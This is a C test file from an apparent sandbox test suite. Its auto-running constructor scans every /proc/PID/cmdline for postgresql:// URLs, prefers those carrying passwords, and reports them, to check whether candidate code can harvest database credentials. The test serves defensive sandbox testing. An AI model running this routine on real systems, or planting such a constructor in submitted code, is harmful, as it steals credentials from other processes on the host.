/*  Hostile, reading the cluster's command lines (issue 13, item 3): every
 *  /proc/PID/cmdline, for database URLs (a coordinator started with
 *  one), those with a password first. Caught when the test's own
 *  process's URL is in no output.
 *  It runs where code of a candidate's runs unconfined by the runner: in the
 *  evaluation child, as a CUDA or Level Zero candidate does (loaded into
 *  the judge; its constructors run at dlopen), or as a compiler does. The
 *  host backend's candidates run one process further in, under the
 *  runner's seccomp and Landlock, so the test loads this file as the job's
 *  reference: the same process, the same sandbox (kf_subproc.c). Its
 *  findings are its last line on stderr, which the worker stores. */
/* The scaffold (s_param, s_say, kf_forward) is sandbox_attack.h, put
 * before this file by test_hostile.sh. */

__attribute__ ((constructor)) static void
s_attack (void)
{
    char found[900] = "";
    /* Those with a password first: they are what is worth taking. */
    for (int pass = 0; pass < 2; pass++) {
        DIR *d = opendir ("/proc");
        struct dirent *e;
        while (d && (e = readdir (d)) != NULL) {
            char path[300], buf[4096];
            snprintf (path, sizeof path, "/proc/%s/cmdline", e->d_name);
            int fd = e->d_name[0] >= '1' && e->d_name[0] <= '9' ? open (path, O_RDONLY) : -1;
            ssize_t n = fd >= 0 ? read (fd, buf, sizeof buf - 1) : -1;
            if (fd >= 0)
                close (fd);
            if (n <= 0)
                continue;
            for (ssize_t i = 0; i < n; i++)
                if (!buf[i])
                    buf[i] = ' ';
            buf[n] = 0;
            char *url = strstr (buf, "postgresql://");
            char *end = url ? strchr (url, ' ') : NULL;
            if (end)
                *end = 0;
            if (url && (strchr (url, '@') != NULL) == (pass == 0)
                && strlen (found) + strlen (url) + 2 < sizeof found) {
                strcat (found, url);
                strcat (found, "; ");
            }
        }
        if (d)
            closedir (d);
    }
    s_say ("cmdline", found[0] ? found : "none seen");
}
